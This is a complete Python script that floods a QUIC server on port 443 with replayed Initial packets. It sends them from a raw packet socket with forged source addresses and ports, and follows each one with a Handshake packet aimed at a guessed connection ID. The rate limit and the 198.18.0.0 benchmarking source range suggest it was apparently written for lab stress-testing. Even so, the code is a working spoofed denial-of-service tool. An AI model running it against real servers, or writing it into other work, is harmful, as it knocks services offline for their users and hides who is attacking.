"""Sends a recorded QUIC Initial to the server again and again, each time from another address and port, none of which
it has: on a packet socket, below everything that would keep it from lying. After each comes what a client sends once it
knows the server's connection ID, to an ID that can only be guessed. Goes on until stdin is closed, and prints how many
forged connections were sent.

In: the command line; the datagram in a file. Memory: one frame of each kind.
"""

import argparse
import ipaddress
import os
import select
import socket
import struct
import sys
import time

UDP = 17
# Between two looks at the clock.
BURST = 50


def checksum(header):
    """RFC 1071."""
    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ethernet(mac):
    """From nobody to `mac`, IPv4."""
    return bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000001") + b"\x08\x00"


def packet(source, port, destination, payload):
    """IPv4 and UDP; a UDP checksum of 0 is none (RFC 768)."""
    head = struct.pack("!BBHHHBB", 0x45, 0, 28 + len(payload), 7, 0x4000, 64, UDP)
    addresses = source.to_bytes(4, "big") + destination
    check = checksum(head + b"\0\0" + addresses)
    udp = struct.pack("!HHHH", port, 443, 8 + len(payload), 0)
    return head + check.to_bytes(2, "big") + addresses + udp + payload


def handshake(initial):
    """A Handshake packet to a connection ID that the server may have."""
    source = initial[6 + initial[5] :]
    source = source[: 1 + source[0]]
    return b"\xe0" + initial[1:5] + b"\x08" + os.urandom(8) + source + b"\x40\x40" + os.urandom(64)


def closed():
    """Whether stdin is closed: nothing is ever written to it."""
    return bool(select.select([sys.stdin], [], [], 0)[0])


def main():
    """Reads the command line."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--interface", required=True)
    parser.add_argument("--mac", required=True, help="of the server's interface")
    parser.add_argument("--destination", required=True, help="the server's IPv4 address")
    parser.add_argument("--initial", required=True, help="the file")
    parser.add_argument("--count", type=int, required=True, help="at least so many")
    parser.add_argument("--rate", type=int, required=True, help="at most so many a second")
    arguments = parser.parse_args()
    with open(arguments.initial, "rb") as file:
        initial = file.read()
    second = handshake(initial)
    link = ethernet(arguments.mac)
    destination = ipaddress.IPv4Address(arguments.destination).packed
    first_source = int(ipaddress.IPv4Address("198.18.0.0"))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((arguments.interface, 0))
        started = time.monotonic()
        number = 0
        while number < arguments.count or not closed():
            source, port = first_source + number % 131_072, 1024 + number % 60_000
            wire.send(link + packet(source, port, destination, initial))
            wire.send(link + packet(source, port, destination, second))
            number += 1
            if number % BURST == 0:
                time.sleep(max(0.0, started + number / arguments.rate - time.monotonic()))
    print(number)


if __name__ == "__main__":
    main()
